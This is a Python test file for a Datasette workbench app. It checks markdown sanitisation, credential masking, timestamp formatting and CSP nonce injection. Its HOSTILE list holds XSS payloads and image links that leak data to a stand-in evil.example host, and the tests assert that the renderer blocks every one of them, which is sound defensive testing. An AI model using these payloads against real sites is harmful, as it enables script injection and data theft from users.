"""Hostile text to safe text or markup."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from datasette_workbench import nonces, render
from datasette_workbench.views.sign_in import _own_path

from workbench.guard import mask_all

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='https://x.example' ping='https://evil.example'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!-- remember: x -->",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '[x](https://x.example "onmouseover=alert(1) \\" onload=")',
    "<style>@import 'https://evil.example/x.css'</style>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>`",
]


class Opened(HTMLParser):
    """Each opening tag with its attributes, as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_lets_nothing_active_through(text: str) -> None:
    for tag, attributes in Opened(render.markdown(text)).tags:
        assert tag in render._TAGS
        assert set(attributes) <= {"href", "rel", "start"}
        assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:"))


def test_lines_stay_lines() -> None:
    assert render.markdown("Dear Ann,\nsee you\n\nBob") == "<p>Dear Ann,<br>\nsee you</p>\n<p>Bob</p>\n"


def test_links_give_nothing_away() -> None:
    assert 'rel="noreferrer noopener nofollow"' in render.markdown("[x](https://x.example)")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202eb", "a\\u{202e}b"),
        ("i\u200bgnore", "i\\u{200b}gnore"),
        ("ok\U000e0041", "ok\\u{e0041}"),
        ("one\ntwo\tthree", "one\ntwo\tthree"),
        ("bell\x07", "bell\\u{7}"),
        (None, ""),
    ],
)
def test_what_is_invisible_is_written_out(text: str | None, shown: str) -> None:
    assert render.plain(text) == shown


def test_a_credential_is_masked_in_text_markdown_and_json() -> None:
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    assert token not in render.plain(f"x {token}")
    assert token not in render.markdown(f"`{token}`")
    assert token not in render.pretty({"command": f"curl -H 'Authorization: token {token}'"})
    assert token not in str(mask_all({"a": [token, {"b": f"x {token}"}], "n": 1}))


def test_a_huge_text_is_shown_as_text() -> None:
    assert render.markdown("*a*" * render.MAX_MARKDOWN).startswith("<pre>")


def test_a_snippet_marks_words_and_nothing_else() -> None:
    assert render.snippet("a >>>b<i><<< <b>c") == "a <mark>b&lt;i&gt;</mark> &lt;b&gt;c"


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("2026-03-01T09:15:00Z", '<time datetime="2026-03-01T09:15:00Z">2026-03-01 10:15+01:00</time>'),
        ("2026-07-01T09:15:59.123456Z", '<time datetime="2026-07-01T09:15:59Z">2026-07-01 11:15+02:00</time>'),
        ("2026-02-28T19:15:00-05:00", '<time datetime="2026-03-01T00:15:00Z">2026-03-01 01:15+01:00</time>'),
        ("2026-03-01 09:15", '<time datetime="2026-03-01T08:15:00Z">2026-03-01 09:15+01:00</time>'),
        ("2026-03-01", '<time datetime="2026-03-01">2026-03-01</time>'),
        ("yesterday", "yesterday"),
        ("2026-13-01T09:15:00Z", "2026-13-01T09:15:00Z"),
        ("0001-01-01T00:00:00+14:00", '<time datetime="0001-01-01T00:00:00+14:00">0001-01-01T00:00:00+14:00</time>'),
        ('"><b>\u202e', "&#34;&gt;&lt;b&gt;\\u{202e}"),
        (None, ""),
    ],
)
def test_moments(stored: str | None, shown: str, berlin: None) -> None:
    assert render.moment(stored) == shown


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("<script>", '<script nonce="{{ csp_nonce() }}">'),
        ("<script src=x>", '<script nonce="{{ csp_nonce() }}" src=x>'),
        ("<script{% if x %} a{% endif %}>", '<script nonce="{{ csp_nonce() }}"{% if x %} a{% endif %}>'),
        ("<style type='text/css'>", "<style nonce=\"{{ csp_nonce() }}\" type='text/css'>"),
        ("<scripture>", "<scripture>"),
        ("</script>", "</script>"),
        ('<b onclick="openColumnChooser()">', "<b data-open-column-chooser>"),
    ],
)
def test_nonces_go_into_template_source(source: str, expected: str) -> None:
    assert nonces.with_nonces(source) == expected


def test_no_template_of_datasette_keeps_an_event_attribute() -> None:
    """A newer Datasette that adds one fails here first."""
    from pathlib import Path

    import datasette

    for template in (Path(datasette.__file__).parent / "templates").rglob("*.html"):
        assert re.findall(r"<[^>{]*\son[a-z]+=", nonces.with_nonces(template.read_text("utf-8"))) == [], template


def test_a_path_of_our_own() -> None:
    assert _own_path("/a?b=c") == "/a?b=c"
    assert _own_path("/é") == "/-/memory/review"
